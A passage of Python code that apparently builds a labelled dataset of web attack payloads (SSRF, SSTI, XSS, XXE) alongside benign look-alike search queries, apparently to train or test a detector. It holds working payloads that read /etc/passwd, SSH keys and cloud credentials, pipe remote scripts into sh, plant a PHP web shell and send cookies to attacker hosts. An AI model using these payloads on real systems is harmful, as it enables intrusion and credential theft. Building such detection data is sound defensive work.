    I("p", "http://localhost/server-status", ci=0),
    I("q", "http://[::ffff:127.0.0.1]:8080/admin", True, ci=0),
    I("q", "http://[0:0:0:0:0:ffff:7f00:1]/", True, ci=1),
    I("q", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", True, ci=2),
    I("q", "http://2852039166/latest/meta-data/", True, ci=3),
    I("q", "http://0xa9fea9fe/latest/meta-data/", True, ci=4),
    I("q", "http://0251.0376.0251.0376/latest/meta-data/", True, ci=0),
    I("q", "http://0xa9.254.0251.0xfe/latest/meta-data/", True, ci=1),
    I("q", "http://127.1:8080/actuator/env", True, ci=2),
    I("j", "http://0.0.0.0:8080/actuator/heapdump", True, ci=3),
    I("j", "http://169.254.169.254.nip.io/latest/meta-data/", True, ci=0),
    I("j", "http://7f000001.c0a80001.rbndr.us:8080/admin", True, ci=1),
    I("j", "http://cdn.mintbarrow.io@169.254.169.254/latest/meta-data/", True, ci=3),
    I("j", "http://127.0.0.1:6379#@images.mintbarrow.io/logo.png", True, ci=4),
    I("j", "https://redir.attacker.example/r?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin", True, ci=5),
    I("j", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/", True, ci=0),
    I("j", "http://[fd00:ec2::254]/latest/meta-data/", True, ci=4),
    I("f", "http://127.0.0.1:80\\@images.mintbarrow.io/", True, ci=1),
    I("f", "http://017700000001:8080/", True, ci=0),
    I("c", "http://[::1]:8080/admin", True, name="return_url", enc="full"),
    I("p", "http://0x7f000001/", True, ci=1, enc="mixed"),
    I("x", "http://metadata/computeMetadata/v1/", True, ci=1, xm="ent"),
    I("k", kv=("urls[]", "http://instance-data/latest/meta-data/"), hard=True, ci=1),
]

# ---------------------------------------------------------------- ssti
CX["ssti"] = dict(
    q=[
        ("GET", "/api/v1/preview", "template"),
        ("GET", "/greeting", "name"),
        ("GET", "/api/v2/emails/render", "subject"),
        ("GET", "/error", "msg"),
    ],
    k=[("GET", "/api/v1/preview"), ("GET", "/api/v2/emails/render")],
    j=[
        ("POST", "/api/v1/email-templates/preview", "body", {"locale": "en", "sample_data": {"first_name": "Ana"}}),
        ("PUT", "/api/v1/notifications/templates/welcome", "subject", {"channel": "email"}),
        ("POST", "/api/v2/invoices/render", "footer_note", {"invoice_id": "INV-22091"}),
        ("PATCH", "/api/v1/users/me", "display_name", {"timezone": "Europe/Paris"}),
        ("POST", "/api/v1/reports/custom", "title_template", {"format": "pdf"}),
    ],
    f=[
        ("POST", "/contact", "name", [("email", "r.diaz@example.org"), ("message", "Hi")]),
        ("POST", "/newsletter/preview", "headline", [("list", "monthly")]),
        ("POST", "/account/signature", "signature", [("csrf", CSRF)]),
    ],
    p=[("GET", "/hello/", ""), ("GET", "/doc/", "")],
    h=["User-Agent", "Referer", "X-Greeting"],
    c=["display_name", "theme_tpl"],
    m=[("POST", "/api/v1/themes/upload", "layout", "content", [("theme", "custom")])],
    x=[("POST", "/api/v1/templates/import", "template", "body")],
)
_hbs = (
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}'
    "{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}"
    "{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"
)
ITEMS["ssti"] = [
    I("q", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", ci=1),
    I("q", "{{['id']|filter('system')}}", ci=0),
    I("q", '${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}', ci=2),
    I("q", "*{T(java.lang.Runtime).getRuntime().exec('curl 203.0.113.7/t|sh')}", ci=1),
    I(
        "q",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        ci=1,
    ),
    I("j", "{{ config.items() }}", ci=3),
    I("j", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}", ci=0),
    I("j", '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', ci=1),
    I("j", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', ci=2),
    I("j", '{{ env "AWS_SECRET_ACCESS_KEY" }}', ci=1),
    I(
        "j",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
        ci=2,
    ),
    I(
        "j",
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('curl 203.0.113.3/p|sh')}()}",
        ci=4,
    ),
    I("f", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}", ci=0),
    I(
        "f",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
        ci=1,
    ),
    I("f", "{system('id')}", ci=0),
    I("h", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}", name="User-Agent"),
    I("h", "<%= global.process.mainModule.require('child_process').execSync('id') %>", name="Referer"),
    I("c", "<%= IO.popen('id').readlines() %>", name="display_name"),
    I("p", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", ci=1),
    I("m", "${__import__('os').popen('id').read()}", ci=0, fn="layout.mako"),
    I("x", '{% import os %}{{ os.popen("id").read() }}', ci=0),
    I("k", kv=("vars[greeting]", "{{ settings.SECRET_KEY }}"), ci=0),
    I(
        "j",
        "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}",
        True,
        ci=0,
    ),
    I("q", "{{ lipsum['__glo'+'bals__']['o'+'s']['popen']('id')['read']() }}", True, ci=0),
    I("j", "{% set x = cycler.__init__.__globals__ %}{{ x.os.popen('id').read() }}", True, ci=2),
    I("f", '{%print(lipsum|attr("__globals__"))["os"]["popen"]("id")["read"]()%}', True, ci=1),
    I("j", '{{ (lipsum|attr(["_"*2,"globals","_"*2]|join))["os"].popen("id").read() }}', True, ci=4),
    I("x", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}", True, ci=0, xm="ent"),
    I("j", "{{['i'~'d']|filter('sys'~'tem')}}", True, ci=3),
    I("j", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}", True, ci=4),
    I(
        "j",
        '#set($s="")#set($c=$s.getClass().forName("java.lang.Runt"+"ime"))$c.getMethod("getRuntime",null).invoke(null,null).exec("id")',
        True,
        ci=0,
    ),
    I("j", "${T(java.lang.Runtime).getRuntime().exec(new String(new byte[]{105,100}))}", True, ci=4),
    I(
        "h",
        "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
        True,
        name="X-Greeting",
    ),
    I(
        "p",
        '__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x',
        True,
        ci=1,
        enc="mixed",
    ),
    I("f", "<%= Kernel.send(:sys.to_s+'tem','id') %>", True, ci=2),
    I("j", _hbs, True, ci=0),
    I("q", '{{ "/etc/passwd" | readFile }}', True, ci=2, enc="full"),
    I("c", "#{global['pro'+'cess'].mainModule.require('child_process').execSync('id')}", True, name="theme_tpl"),
    I("j", "{{ joiner.__init__.__globals__.os.popen('id').read() }}", True, ci=3, esc="{}_"),
    I(
        "q",
        "%257B%257Bconfig.__class__.__init__.__globals__%255B%2527os%2527%255D.popen(%2527id%2527).read()%257D%257D",
        True,
        ci=2,
        enc="raw",
    ),
    I("m", "{{['id']|map('sys'~'tem')|join}}", True, ci=0, fn="layout.twig"),
    I("k", kv=("ctx[title]", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"), hard=True, ci=1, enc="full"),
    I("j", "<%= File.open('/etc/passwd').read %>", True, ci=2, esc_all=True),
    I("f", "{{['cat /etc/passwd']|map('passthru')|join}}", True, ci=2, enc="mixed"),
]

# ---------------------------------------------------------------- xss
CX["xss"] = dict(
    q=[
        ("GET", "/search", "q"),
        ("GET", "/api/v1/jsonp/profile", "callback"),
        ("GET", "/welcome", "name"),
        ("GET", "/r", "next"),
        ("GET", "/product/view", "ref"),
    ],
    k=[("GET", "/search"), ("GET", "/catalog")],
    j=[
        ("POST", "/api/v1/comments", "body", {"post_id": 1182, "parent_id": None}),
        ("PATCH", "/api/v1/users/me", "bio", {"website": "https://example.org"}),
        ("PUT", "/api/v1/profile", "website", {"display_name": "Jo"}),
        ("POST", "/api/v2/reviews", "title", {"rating": 5, "product_id": "p-4471"}),
        ("POST", "/api/v1/chat/messages", "text", {"channel": "general"}),
    ],
    f=[
        ("POST", "/guestbook", "message", [("name", "Guest")]),
        ("POST", "/account/profile", "display_name", [("csrf", CSRF)]),
        ("POST", "/support/ticket", "subject", [("priority", "normal")]),
    ],
    p=[("GET", "/u/", ""), ("GET", "/search/", "")],
    h=["Referer", "User-Agent", "X-Forwarded-For"],
    c=["username", "last_search", "flash_msg"],
    m=[
        ("POST", "/api/v1/uploads/avatar", "avatar", "filename", [("user_id", "5512")]),
        ("POST", "/api/v1/media", "file", "content", [("alt", "logo")]),
    ],
    x=[("POST", "/api/v1/feedback.xml", "feedback", "comment"), ("POST", "/services/CMS", "soap:SavePage", "title")],
)
ITEMS["xss"] = [
    I("q", "<script>alert(document.domain)</script>", ci=0),
    I("q", "<img src=x onerror=alert(1)>", ci=2),
    I("q", "javascript:alert(document.cookie)", ci=3),
    I("q", '"><script src=https://xss.attacker.example/x.js></script>', ci=4),
    I("q", "<svg onload=fetch('//203.0.113.9/c?'+document.cookie)>", ci=0),
    I("j", '<iframe src="javascript:alert(1)"></iframe>', ci=0),
    I("j", "<details open ontoggle=alert(1)>", ci=1),
    I(
        "j",
        "javascript:fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//x.attacker.example',t))",
        ci=2,
    ),
    I("j", "'-alert(1)-'", ci=3),
    I("j", "</script><script>alert(1)</script>", ci=4),
    I("j", "<input autofocus onfocus=alert(1)>", ci=0),
    I("f", "<body onload=alert(1)>", ci=0),
    I("f", '" onmouseover="alert(1)', ci=1),
    I("f", "<video><source onerror=alert(1)></video>", ci=2),
    I("h", "<script>alert(1)</script>", name="Referer"),
    I("h", "<img src=x onerror=alert(document.cookie)>", name="User-Agent"),
    I("c", "<script>alert(1)</script>", name="username"),
    I("m", "<img src=x onerror=alert(1)>.png", ci=0, mk="filename", ext="txt", mpct="image/png"),
    I(
        "m",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
        ci=1,
        fn="logo.svg",
        mpct="image/svg+xml",
    ),
    I("x", "<script>alert(1)</script>", ci=0),
    I("p", "<script>alert(1)</script>", ci=0),
    I("k", kv=("q[<img src=x onerror=alert(1)>]", "1"), ci=1),
    I("q", "<ScRiPt>alert(1)</sCrIpT>", True, ci=0),
    I("q", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>", True, ci=2),
    I("q", "&#x6a;avascript:alert(1)", True, ci=3),
    I("q", "javascript://%0aalert(1)", True, ci=3),
    I("q", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", True, ci=0, enc="raw"),
    I("q", "alert(document.domain)//", True, ci=1),
    I("j", "<img src=x onerror=alert(1)>", True, ci=0, esc="<>="),
    I("j", "<img src=x onerror=eval(atob('%s'))>" % b64("alert(document.cookie)"), True, ci=1),
    I("j", "<img src=x onerror=top[/al/.source+/ert/.source](1)>", True, ci=4),
    I("j", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', True, ci=1),
    I("j", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", True, ci=0),
    I("j", "`+alert(document.domain)+`", True, ci=3),
    I("j", "{{constructor.constructor('alert(1)')()}}", True, ci=2),
    I("j", '<a href="jav&#x09;ascript:alert(1)">x</a>', True, ci=3),
    I("f", "<img/src=x\nonerror=alert(1)>", True, ci=0),
    I("f", "<svg/onload=alert(1)>", True, ci=1, enc="mixed"),
    I("f", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", True, ci=2),
    I("h", "<img src=x onerror=alert&#40;1&#41>", True, name="X-Forwarded-For"),
    I("c", '"><svg onload=alert(1)>', True, name="last_search", enc="full"),
    I("p", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", True, ci=1, enc="mixed"),
    I("x", "<img src=x onerror=alert(document.domain)>", True, ci=0, xm="cdata"),
    I(
        "m",
        '<html><body><object data="data:text/html;base64,%s"></object></body></html>'
        % b64("<script>alert(1)</script>"),
        True,
        ci=1,
        fn="preview.html",
        mpct="text/html",
    ),
]


# ---------------------------------------------------------------- xxe
def utf7_strict(s):
    direct = set(string.ascii_letters + string.digits + " '(),-./:?\n")
    out, run = [], []
    for ch in s + "\x00":
        if ch in direct or ch == "\x00":
            if run:
                out.append("+" + base64.b64encode("".join(run).encode("utf-16-be")).decode("ascii").rstrip("=") + "-")
                run = []
            if ch != "\x00":
                out.append(ch)
        else:
            run.append(ch)
    return "".join(out)


CX["xxe"] = dict(
    xd=[
        ("POST", "/api/v1/orders/import"),
        ("POST", "/api/v2/products/bulk"),
        ("PUT", "/api/v1/invoices/INV-5520"),
        ("POST", "/services/StockService"),
        ("POST", "/api/v1/feeds/import"),
        ("POST", "/api/v1/search/xml"),
        ("PATCH", "/api/v1/profile.xml"),
    ],
    m=[
        ("POST", "/api/v1/uploads/image", "file", "content", [("title", "avatar")]),
        ("POST", "/api/v1/documents/convert", "document", "content", [("target", "pdf")]),
    ],
    j=[
        ("POST", "/api/v1/integrations/xml-import", "xml", {"source": "erp"}),
        ("POST", "/api/v1/validate", "document", {"schema": "ubl-2.1"}),
    ],
    f=[
        ("POST", "/import", "xml", [("mode", "merge")]),
        ("POST", "/api/soap-proxy", "envelope", [("endpoint", "orders")]),
    ],
)
XD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def xxe_simple(root, child, url, decl=XD, name="xxe"):
    return '%s<!DOCTYPE %s [\n  <!ENTITY %s SYSTEM "%s">\n]>\n<%s>\n  <%s>&%s;</%s>\n  <qty>1</qty>\n</%s>' % (
        decl,
        root,
        name,
        url,
        root,
        child,
        name,
        child,
        root,
    )


_simple = [
    ("order", "id", "file:///etc/passwd"),
    ("user", "username", "file:///c:/windows/win.ini"),
    ("stockCheck", "productId", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("invoice", "note", "php://filter/convert.base64-encode/resource=/var/www/html/config.php"),
    ("product", "description", "expect://id"),
    ("profile", "bio", "file:///proc/self/environ"),
    ("request", "ref", "file:///root/.aws/credentials"),
    ("comment", "text", "file:///home/app/.ssh/id_rsa"),
    ("search", "term", "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("order", "customer", "http://127.0.0.1:8080/actuator/env"),
    ("user", "email", "file:///etc/shadow"),
    ("feedback", "message", "file:///app/.env"),
]
_soap = (
    '<?xml version="1.0"?>\n<!DOCTYPE soapenv:Envelope [<!ENTITY creds SYSTEM "file:///etc/passwd">]>\n'
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:st="urn:stock">'
    "<soapenv:Body><st:CheckStock><st:sku>&creds;</st:sku></st:CheckStock></soapenv:Body></soapenv:Envelope>"
)
_rss = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [<!ENTITY leak SYSTEM "file:///etc/hostname">]>\n'
    '<rss version="2.0"><channel><title>Partner news</title><item><title>&leak;</title>'
    "<link>https://partner.example/p/1</link></item></channel></rss>"
)
_oob = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE data [\n  <!ENTITY % remote SYSTEM "http://203.0.113.40/evil.dtd">\n'
    "  %remote;\n  %init;\n  %send;\n]>\n<data>4</data>"
)
_extdtd = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE report SYSTEM "http://203.0.113.40/x.dtd">\n<report><id>1</id></report>'
_lol = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(' <!ENTITY lol%d "%s">\n' % (i, ("&lol%s;" % ("" if i == 1 else i - 1)) * 10) for i in range(1, 10))
    + "]>\n<lolz>&lol9;</lolz>"
)
_xslt = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:template match="/"><out><xsl:value-of select="unparsed-text(\'file:///etc/passwd\')"/></out></xsl:template></xsl:stylesheet>'
)
_svg = (
    '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
    '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>'
)
_docx = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t>'
    "</w:r></w:p></w:body></w:document>"
)
_xlsx = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY % d SYSTEM "http://203.0.113.40/s.dtd">%d;]>\n'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&exfil;</t></si></sst>'
)
_xinc = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<order xmlns:xi="http://www.w3.org/2001/XInclude"><id>7</id>'
    '<note><xi:include parse="text" href="file:///etc/passwd"/></note></order>'
)
_xinc_svg = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" width="300" height="100">'
    '<text x="10" y="20"><xi:include parse="text" href="file:///etc/hostname"/></text></svg>'
)
_xinc_docx = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:xi="http://www.w3.org/2001/XInclude"><w:body><w:p><w:r><w:t><xi:include href="file:///etc/passwd" parse="text" encoding="ISO-8859-1">'
    "<xi:fallback>n/a</xi:fallback></xi:include></w:t></w:r></w:p></w:body></w:document>"
)
_localdtd = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE message [\n'
    '  <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
    '  <!ENTITY % ISOamso \'\n    <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n'
    '    <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n'
    "    &#x25;eval;\n    &#x25;error;\n  '>\n  %local_dtd;\n]>\n<message>hi</message>"
)
_body7 = '<!DOCTYPE note [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<note><to>&xxe;</to></note>'
_utf7 = '<?xml version="1.0" encoding="UTF-7"?>\n' + utf7_strict(_body7)
_utf16 = xxe_simple("order", "id", "file:///etc/group", decl='<?xml version="1.0" encoding="UTF-16"?>\n')
_ws = "<?xml version=\"1.0\"?>\n<!DOCTYPE\tfoo\n[\n\t<!ENTITY\n\t\txxe\n\t\tSYSTEM\n\t\t'file:///etc/passwd'\n\t>\n]\n>\n<foo>\n&xxe;\n</foo>"
_public = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE invoice PUBLIC "-//ACME//DTD Invoice 1.0//EN" "http://203.0.113.40/invoice.dtd">\n'
    "<invoice><total>12.00</total></invoice>"
)
_charref = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE r [\n  <!ENTITY % p1 "&#60;!ENTITY xxe SYSTEM \'file:///etc/passwd\'&#62;">\n'
    "  %p1;\n]>\n<r><v>&xxe;</v></r>"
)
_cdata = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE data [\n  <!ENTITY % start "<![CDATA[">\n'
    '  <!ENTITY % file SYSTEM "file:///var/www/html/config.php">\n  <!ENTITY % end "]]>">\n'
    '  <!ENTITY % dtd SYSTEM "http://203.0.113.40/join.dtd">\n  %dtd;\n]>\n<data>&all;</data>'
)
_chain = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE r [\n  <!ENTITY % a "<!ENTITY &#x25; b SYSTEM \'http://203.0.113.40/b.dtd\'>">\n'
    "  %a;\n  %b;\n]>\n<r>1</r>"
)
_comment = '<?xml version="1.0"?>\n<!DOCTYPE r [<!-- config -->\n<!ENTITY % x SYSTEM "http://203.0.113.40/c.dtd"><!-- load -->\n%x;]>\n<r/>'
_filter = xxe_simple("product", "sku", "php://filter/read=convert.base64-encode|string.rot13/resource=/etc/passwd")
_netdoc = xxe_simple("user", "name", "netdoc:///etc/passwd")
_jar = xxe_simple("order", "id", "jar:http://203.0.113.40/a.zip!/x.txt")
_localhost = xxe_simple("profile", "bio", "file://localhost/etc/passwd")
_soaphdr = (
    '<?xml version="1.0"?>\n<!DOCTYPE s [<!ENTITY % ext SYSTEM "http://203.0.113.40/h.dtd">%ext;]>\n'
    '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Header><auth>&token;</auth></soap:Header>'
    "<soap:Body><GetPrice><sku>A-1</sku></GetPrice></soap:Body></soap:Envelope>"
)
ITEMS["xxe"] = [I("x", xdoc=xxe_simple(*t), ci=i) for i, t in enumerate(_simple)] + [
    I("x", xdoc=_soap, ci=3, xct="text/xml; charset=utf-8"),
    I("x", xdoc=_rss, ci=4, xct="application/rss+xml"),
    I("x", xdoc=_oob, ci=5),
    I("x", xdoc=_extdtd, ci=0),
    I("x", xdoc=_lol, ci=6),
    I("x", xdoc=_xslt, ci=1, xct="application/xslt+xml"),
    I("j", xdoc=xxe_simple("order", "id", "file:///etc/passwd"), ci=0),
    I("f", xdoc=xxe_simple("record", "name", "file:///etc/issue"), ci=0),
    I("m", xdoc=xxe_simple("manifest", "title", "file:///etc/passwd"), ci=1, fn="manifest.xml", mpct="application/xml"),
    I("m", xdoc=_svg, hard=True, ci=0, fn="avatar.svg", mpct="image/svg+xml"),
    I(
        "m",
        xdoc=_docx,
        hard=True,
        ci=1,
        fn="document.xml",
        mpct="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    I("x", xdoc=_xlsx, hard=True, ci=2),
    I("x", xdoc=_xinc, hard=True, ci=0),
    I("m", xdoc=_xinc_svg, hard=True, ci=0, fn="chart.svg", mpct="image/svg+xml"),
    I("x", xdoc=_localdtd, hard=True, ci=1),
    I("x", xdoc=_utf7, hard=True, ci=5),
    I("x", xdoc=_utf16, hard=True, ci=0),
    I("x", xdoc=_ws, hard=True, ci=6),
    I("x", xdoc=_public, hard=True, ci=2),
    I("x", xdoc=_charref, hard=True, ci=4),
    I("x", xdoc=_cdata, hard=True, ci=3),
    I("x", xdoc=_chain, hard=True, ci=5),
    I("x", xdoc=_comment, hard=True, ci=6),
    I("x", xdoc=_filter, hard=True, ci=1),
    I("x", xdoc=_netdoc, hard=True, ci=0),
    I("x", xdoc=_jar, hard=True, ci=3),
    I("x", xdoc=_localhost, hard=True, ci=4),
    I("x", xdoc=_soaphdr, hard=True, ci=3, xct="application/soap+xml"),
    I("j", xdoc=xxe_simple("order", "id", "file:///etc/hosts"), hard=True, ci=1, esc="<>!&"),
    I("x", xdoc=xxe_simple("ticket", "subject", "https://203.0.113.40/xxe-probe"), ci=2),
    I("m", xdoc=_xinc_docx, hard=True, ci=1, fn="document.xml", mpct="application/xml"),
    I("f", xdoc=xxe_simple("record", "name", "file:///proc/version"), hard=True, ci=1, enc="full"),
]


# ================================================================ benign
FIRST = [
    "Olivia",
    "Liam",
    "Sofia",
    "Mateo",
    "Aisha",
    "Chen",
    "Priya",
    "Lukas",
    "Emma",
    "Noah",
    "Fatima",
    "Yuki",
    "Siobhan",
    "Declan",
    "Zoe",
    "Jose",
    "Mia",
    "Ravi",
    "Ingrid",
    "Tomas",
    "Amara",
    "Hannah",
    "Kwame",
    "Elena",
]
LAST = [
    "O'Brien",
    "Mueller",
    "Nguyen",
    "Garcia",
    "Smith",
    "D'Angelo",
    "Okafor",
    "Kowalski",
    "van der Berg",
    "Johansson",
    "Fitzgerald",
    "Patel",
    "O'Neil",
    "MacLeod",
    "Rossi",
    "Tanaka",
    "Dubois",
    "Al-Sayed",
    "Schmidt",
    "Hernandez",
]
COMPANIES = [
    "Smith & Sons Ltd.",
    "Barnes & Noble",
    "Procter & Gamble",
    "AT&T",
    "Johnson & Johnson",
    "O'Reilly Media",
    "Ben & Jerry's",
    "Marks & Spencer",
    "H&M",
    "Black & Decker",
    "Simon & Schuster",
    "Tiffany & Co.",
    "Crate & Barrel",
    "Dolce & Gabbana",
    "Bang & Olufsen",
]
PRODUCTS = [
    "Merino wool sweater",
    "USB-C hub (7-in-1)",
    'Cast-iron skillet 12"',
    "Noise-cancelling headphones",
    "Standing desk frame",
    '4K monitor 27"',
    "Trail running shoes",
    "Ceramic pour-over set",
    "Mechanical keyboard (TKL)",
    "Linen duvet cover",
    "Espresso grinder",
    "Kids' rain jacket",
]


def person():
    return "%s %s" % (pick(FIRST), pick(LAST))


def email_of(name):
    return "%s@%s" % (
        name.lower().replace(" ", ".").replace("'", ""),
        pick(["example.com", "example.org", "mail.example.net", "gmail.com", "outlook.com"]),
    )


def spread(soft, hard, plan):
    """Interleave soft and hard payloads and give each a placement from plan(i, text, hard)."""
    items = []
    for i, t in enumerate(soft):
        items.append(plan(i, t, False))
    for i, t in enumerate(hard):
        items.append(plan(i, t, True))
    return items


def sample(pool, n):
    assert len(set(pool)) == len(pool), [x for x in pool if pool.count(x) > 1]
    assert len(pool) >= n, (len(pool), n)
    return R.sample(pool, n)


N_SOFT, N_HARD = 44, 36

# ---------------------------------------------------------------- benign_search
SEARCH_SOFT = [
    "running shoes size 10",
    "wireless earbuds under 50",
    "how to reset my password",
    "python list comprehension",
    "kubernetes ingress example",
    "best pizza near me",
    "invoice november 2026",
    "order status 88412",
    "blue linen shirt",
    "javascript sort array by date",
    "postgres index performance",
    "react useEffect cleanup",
    "git rebase vs merge",
    "docker compose volumes",
    "css grid center div",
    "rust borrow checker lifetime",
    "golang context timeout",
    "excel vlookup two columns",
    "standing desk 140cm",
    "gift card balance",
    "return policy electronics",
    "vegan protein powder",
    "typescript generics tutorial",
    "terraform aws s3 bucket",
    "how to export contacts",
    "change delivery address",
    "winter jacket women waterproof",
    "laptop sleeve 14 inch",
    "pandas groupby multiple columns",
    "node 22 release notes",
    "flask blueprint structure",
    "oauth refresh token expiry",
    "dark mode settings",
    "two factor authentication app",
    "cancel subscription",
    "kafka consumer lag",
    "redis cache eviction policy",
    "swift async await",
    "android jetpack compose list",
    "graphql pagination cursor",
    "nginx reverse proxy websocket",
    "mortgage calculator",
    "flights lisbon march",
    "espresso machine descaling",
    "sourdough starter ratio",
    "tax form w-9 pdf",
    "team calendar sync outlook",
    "webhook retry policy",
    "api rate limit headers",
    "csv import encoding utf-8",
]
SEARCH_HARD = [
    "sql injection union select example",
    "how to prevent <script> injection in react",
    "bash for loop ${i} syntax",
    "python os.system vs subprocess.run",
    "drop table if exists postgres",
    "alert() not showing in chrome",
    "../ relative import python package",
    "select * from users where id = 1",
    "what does 1=1 mean in sql",
    "/etc/passwd file format explained",
    "xss cheat sheet owasp",
    "<div> vs <span> difference",
    "img onerror attribute fallback image",
    "jndi lookup log4j explained",
    "curl -X POST json example",
    "rm -rf node_modules windows",
    "php echo $_GET variable",
    "{{ }} jinja template syntax",
    "javascript:void(0) meaning",
    "how to escape ' in sql string",
    "exec vs eval python",
    "document.cookie httponly flag",
    "cat /proc/cpuinfo cores",
    "mongodb $regex case insensitive",
    "%20 vs + in url encoding",
    "ldap filter syntax (uid=*)",
    "waitfor delay sql server",
    "<?php ?> short tags",
    "${jndi:ldap} detection splunk",
    "ORDER BY 1-- meaning",
    "union all vs union performance",
    "onload vs DOMContentLoaded",
    "..\\ windows path backslash",
    "__proto__ vs prototype javascript",
    "xxe <!ENTITY example java parser",
    "select option onchange javascript",
    "wget -O - | sh safe?",
    "insert into ... on conflict do nothing",
    "char(13) char(10) sql newline",
    "<iframe> youtube autoplay",
]


def gen_search():
    soft, hard = sample(SEARCH_SOFT, N_SOFT), sample(SEARCH_HARD, N_HARD)
    qctx = [
        ("GET", "/search", "q"),
        ("GET", "/api/v1/search", "query"),
        ("GET", "/api/v2/products", "q"),
        ("GET", "/docs/search", "term"),
        ("GET", "/kb/search", "q"),
        ("GET", "/api/v1/tickets", "search"),
        ("GET", "/community/search", "keywords"),
    ]

    def plan(i, t, h):
        r = i % 10
        if r < 7:
            return I("q", t, h, ctx=pick(qctx), enc=pick(["std", "std", "plus"]))
        if r < 9:
            doc = {
                "query": SENT,
                "page": R.randint(1, 4),
                "per_page": 20,
                "filters": {"lang": pick(["en", "de", "fr"])},
            }
            return I("j", t, h, ctx=pick([("POST", "/api/v1/search"), ("POST", "/api/v2/kb/articles/search")]), doc=doc)
        return I("f", t, h, ctx=("POST", "/search", "q", [("category", pick(["all", "docs", "forum"]))]))

    items = spread(soft, hard, plan)
    # Strapi-style bracket filters are ordinary traffic for headless CMS front-ends
    strapi = [
        ("filters[title][$containsi]", "winter sale"),
